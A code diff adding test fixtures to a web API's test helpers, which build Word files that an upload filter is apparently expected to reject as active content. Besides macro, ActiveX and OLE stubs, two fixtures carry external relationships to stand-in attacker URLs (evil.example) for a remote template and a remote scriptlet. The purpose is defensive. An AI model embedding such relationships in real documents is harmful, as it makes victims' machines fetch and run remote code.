@@ -8,6 +8,7 @@ import { crc32, deflateSync } from 'node:zlib';
 import type { TestContext } from 'node:test';
 import { eq } from 'drizzle-orm';
 import type { FastifyInstance } from 'fastify';
+import { strToU8, zipSync } from 'fflate';
 import sharp from 'sharp';
 import { buildApiServer, type ApiServerConfig } from '../../app.ts';
 import { users } from '../../db/schema.ts';
@@ -151,3 +152,89 @@ export async function signInAs(app: FastifyInstance, suite: ApiSuite, role: 'cus
   assert.ok(user);
   return { id: user.id, phone, accessToken: tokens.accessToken };
 }
+
+const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+
+/**
+ * A Word 2007+ file as Word writes its skeleton: content types, the package and document
+ * relationships, and the document part. `extra` adds parts (a macro project, an ActiveX control),
+ * `documentRelationships` adds relationships of the document part (an outside template, a link).
+ */
+export function docx(options: { mainType?: string; extra?: Record<string, string>; documentRelationships?: string } = {}): Buffer {
+  const text = (value: string) => strToU8(value);
+  const files: Record<string, Uint8Array> = {
+    '[Content_Types].xml': text(
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
+        `<Override PartName="/word/document.xml" ContentType="${options.mainType ?? WORD_MAIN}"/></Types>`,
+    ),
+    '_rels/.rels': text(
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
+    ),
+    'word/_rels/document.xml.rels': text(
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+        `${options.documentRelationships ?? ''}</Relationships>`,
+    ),
+    'word/document.xml': text(
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
+        '<w:body><w:p><w:r><w:t>Медицинская книжка</w:t></w:r></w:p></w:body></w:document>',
+    ),
+  };
+  for (const [name, value] of Object.entries(options.extra ?? {})) files[name] = text(value);
+  return Buffer.from(zipSync(files));
+}
+
+export const DOCX = docx();
+
+/** DOCX files that run or fetch something when opened: each must be refused as active content. */
+export function activeWordXmlDocuments(): { filename: string; contentType: string; data: Buffer }[] {
+  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+  return [
+    { filename: 'macros.docm', contentType: 'application/vnd.ms-word.document.macroEnabled.12', data: docx({ mainType: MACRO_MAIN, extra: { 'word/vbaProject.bin': 'Attribute VB_Name' } }) },
+    { filename: 'renamed-docm.docx', contentType: type, data: docx({ mainType: MACRO_MAIN }) },
+    { filename: 'vba.docx', contentType: type, data: docx({ extra: { 'word/vbaProject.bin': 'Attribute VB_Name' } }) },
+    { filename: 'activex.docx', contentType: type, data: docx({ extra: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }) },
+    { filename: 'ole.docx', contentType: type, data: docx({ extra: { 'word/embeddings/oleObject1.bin': 'MZ' } }) },
+    {
+      filename: 'remote-template.docx',
+      contentType: type,
+      data: docx({
+        extra: {
+          'word/_rels/settings.xml.rels':
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        },
+      }),
+    },
+    {
+      filename: 'remote-frame.docx',
+      contentType: type,
+      data: docx({
+        documentRelationships:
+          '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://evil.example/x.sct" TargetMode="External"/>',
+      }),
+    },
+  ];
+}
+
+/** Zips that are not Word documents: a plain archive, a spreadsheet, a Word file missing its document part. */
+export function notWordXml(): { filename: string; contentType: string; data: Buffer }[] {
+  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+  const sheet = docx({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' });
+  const noBody = Buffer.from(zipSync({ '[Content_Types].xml': strToU8(`<Types><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`) }));
+  return [
+    { filename: 'archive.docx', contentType: type, data: Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })) },
+    { filename: 'sheet.docx', contentType: type, data: sheet },
+    { filename: 'no-body.docx', contentType: type, data: noBody },
+  ];
+}
+
+/**
+ * A 40 × 30 HEIC photo (HEVC in a HEIF container, as an iPhone writes it), encoded once with
+ * libheif's heif-enc from a plain red PNG: no encoder for HEVC runs in Node, so the bytes are here.
+ */
+export const HEIC = Buffer.from(
+  'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAa1tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAAAAAAACAAAAEGlkYXQAAAAAACgAHgAAADhpbG9jAQAAAERAAAIAAQAAAAAAAAHRAAEAAAAAAAAAKgACAAEAAAAAAAAAAQAAAAAAAAAIAAAAOGlpbmYAAAAAAAIAAAAVaW5mZQIAAAEAAQAAaHZjMQAAAAAVaW5mZQIAAAAAAgAAZ3JpZAAAAADYaXBycAAAALZpcGNvAAAAdmh2Y0MBA3AAAAAAAAAAAAAe8AD8/fj4AAAPAyAAAQAYQAEMAf//A3AAAAMAkAAAAwAAAwAeugJAIQABACpCAQEDcAAAAwCQAAADAAADAB6gIIEFluqumubgQEDAgAAAAwCAAAADAIQiAAEABkQBwXPBiQAAABRpc3BlAAAAAAAAAEAAAABAAAAAFGlzcGUAAAAAAAAAKAAAAB4AAAAQcGl4aQAAAAADCAgIAAAAGmlwbWEAAAAAAAAAAgABAoECAAICA4QAAAAaaXJlZgAAAAAAAAAOZGltZwACAAEAAQAAADJtZGF0AAAAJigBrxkhXkJA712lv/8+w/1z1/bVt8pkoKaXBNeImQsDgYCNkZ04',
+  'base64',
+);
